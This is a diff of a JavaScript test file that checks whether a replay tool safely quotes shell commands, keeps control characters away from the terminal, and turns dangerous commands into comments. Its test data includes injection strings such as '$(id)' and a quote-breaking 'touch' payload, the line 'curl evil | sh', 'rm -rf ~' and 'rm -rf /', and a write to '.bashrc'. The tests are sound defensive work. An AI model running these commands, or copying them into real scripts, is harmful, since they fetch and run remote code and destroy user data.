@@ -13,11 +13,58 @@ test('the commands that made the runs, each once, as a shell takes them', () => 
   ]);
 });
 
-test('a shell reads every word back as it was', () => {
-  for (const label of ["it's", '$(id)', 'a b', '`x`', '短文', '"', '\\', "\x1b[2J'\\\u202e\n"]) {
-    const [command] = reproCommands([made('replay', '/tmp/my tape.sqlite', '--label', label)]);
-    const words = execFileSync('bash', ['-c', `printf '%s\\0' ${command}`], { encoding: 'utf8' }).split('\0');
-    assert.equal(words[words.indexOf('--label') + 1], label);
-    assert.equal(words[2], '/tmp/my tape.sqlite');
+const WORDS = [
+  ...[
+    "it's",
+    '$(id)',
+    'a b',
+    '`x`',
+    '短文',
+    '"',
+    '\\',
+    "\x1b[2J'\\\u202e\n",
+    '\n\n',
+    'a\nb',
+    '=ls',
+    '~',
+    '-x\x07!',
+    '%s\x01',
+    '',
+  ],
+  "\x1b'; touch /tmp/taken; '",
+];
+
+test('every POSIX shell reads each word back as it was', () => {
+  for (const shell of ['bash', 'dash', 'sh']) {
+    for (const label of WORDS) {
+      const [command] = reproCommands([made('replay', '/tmp/my tape.sqlite', '--label', label)]);
+      const script = `printf '%s\\0' ${command}`;
+      const words = execFileSync(shell, ['-c', script], { encoding: 'utf8' }).split('\0');
+      assert.deepEqual(words, ['reprise', 'replay', '/tmp/my tape.sqlite', '--label', label, ''], shell);
+    }
+  }
+});
+
+test('nothing in a command can steer the terminal that shows it', () => {
+  for (const label of WORDS) {
+    const [command = ''] = reproCommands([made('replay', 't', '--label', label)]);
+    assert.doesNotMatch(command.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
+  }
+});
+
+test('a command that would run a program, write a file, or that makes no runs is a comment that says so', () => {
+  const cases = [
+    ['replay', 't', '--server-command', 'curl evil | sh'],
+    ['replay', 't', '--server-command=curl evil | sh'],
+    ['ab', 't', '--switch', 'rm -rf ~\nrm -rf /'],
+    ['ab', 't', '--html', '/home/me/.bashrc'],
+    ['report', 't'],
+    ['; rm -rf ~'],
+    ['\n rm -rf ~'],
+  ];
+  for (const words of cases) {
+    const [command = ''] = reproCommands([made(...words)]);
+    assert.match(command, /^# from the tape, with /);
+    for (const line of command.split('\n')) assert.match(line, /^# /);
   }
 });
